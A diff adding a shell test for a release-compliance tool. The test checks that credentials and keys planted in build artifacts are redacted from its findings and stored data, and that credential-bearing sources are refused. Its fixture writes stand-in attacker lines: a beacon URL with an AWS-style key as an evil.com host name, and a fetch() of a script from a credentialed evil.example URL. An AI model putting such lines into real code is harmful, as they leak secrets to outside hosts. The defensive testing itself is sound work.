@@ -1,0 +1,62 @@
+#!/bin/sh
+# t26-secrets: no secret the artifacts carry reaches the evidence in clear —
+# not in an excerpt, not in a message, not in any object or local file:
+# credentials in URLs (user:password@host) and secrets used as host names.
+. "$(dirname "$0")/lib.sh"
+
+# The planted secrets, each a string that must appear nowhere.
+SECRETS="Hunter2SuperSecret AKIAIOSFODNN7EXAMPLE TokenZ9QwertyUiop"
+
+test_expect_success 'setup: the acme policy; an artifact with credentials in URLs and an AWS key as a host name' '
+	new_repo repo
+	cd repo
+	publish_acme_policy
+	mkdir -p art/dist
+	{
+		printf "db = \"https://deploy:Hunter2SuperSecret@db.evil.com/prod\"\n"
+		printf "beacon https://AKIAIOSFODNN7EXAMPLE.evil.com/x\n"
+		printf "fetch(\"https://ci:TokenZ9QwertyUiop@cdn.evil.example/a.js\")\n"
+	} >art/dist/app.js
+	printf "dist/app.js build:acme-ci/web/1\n" | artifacts_doc >art/artifacts.json
+	mid=$(make_candidate c1 art/artifacts.json)
+	test_exit 1 clean-release compliance run --candidate-id c1 --manifest-id $mid --actor release-bot --json
+	echo $(jq -r .run_id "$TRASH/.cr-out") >../run
+'
+
+test_expect_success 'the endpoint findings name the real hosts, never the credentials' '
+	cd repo
+	clean-release compliance violations --run-id $(cat ../run) --json >../v.json
+	jq -r ".violations[] | select(.rule_id == \"external-url\") | .message" ../v.json | sort >../hosts
+	grep -x "endpoint host db.evil.com is not an allowed host" ../hosts
+	grep -x "endpoint host cdn.evil.example is not an allowed host" ../hosts
+	grep -x "endpoint host AKIA\*\{16\}.evil.com is not an allowed host" ../hosts
+	jq -e "[.violations[] | select(.rule_id == \"no-aws-access-key\")] | length == 1" ../v.json >/dev/null
+	jq -r ".violations[].excerpt" ../v.json | grep -F "https://depl" | grep -vF "Hunter2"
+'
+
+test_expect_success 'no planted secret is in any object of the repository or any file under .git/clean-release' '
+	cd repo
+	test_exit 1 clean-release compliance report --run-id $(cat ../run) --json
+	cp "$TRASH/.cr-out" ../report.json
+	git cat-file --batch-all-objects --batch >../all-objects
+	test -s ../all-objects
+	for s in $SECRETS; do
+		if grep -aF "$s" ../all-objects >/dev/null; then echo "secret $s is in an object" >&2; false; fi
+		if grep -raF "$s" .git/clean-release >/dev/null; then echo "secret $s is in .git/clean-release" >&2; false; fi
+		if grep -aF "$s" ../v.json ../report.json >/dev/null; then echo "secret $s is in the output" >&2; false; fi
+	done
+'
+
+test_expect_success 'a source that carries credentials is refused at import (exit 2, naming the artifact), writing nothing' '
+	cd repo
+	clean-release -q candidate register --candidate-id c2 --version 1.0.0 --source-snapshot v1.2.0-rc1 --actor release-bot
+	printf "dist/app.js https://ci:SrcSecret42@registry.evil.example/pkg\n" | artifacts_doc >../creds.json
+	before=$(git rev-parse refs/clean-release/ledger)
+	objects=$(git count-objects -v | awk "/^count/ { print \$2 }")
+	test_exit 2 clean-release candidate import-artifacts --candidate-id c2 --input ../creds.json --artifact-root art \
+		--actor release-bot
+	grep "artifact dist/app.js: its source carries credentials" "$TRASH/.cr-err"
+	test "$(git rev-parse refs/clean-release/ledger)" = "$before"
+	test "$(git count-objects -v | awk "/^count/ { print \$2 }")" = "$objects"
+	! git cat-file --batch-all-objects --batch | grep -aF SrcSecret42 >/dev/null
+'
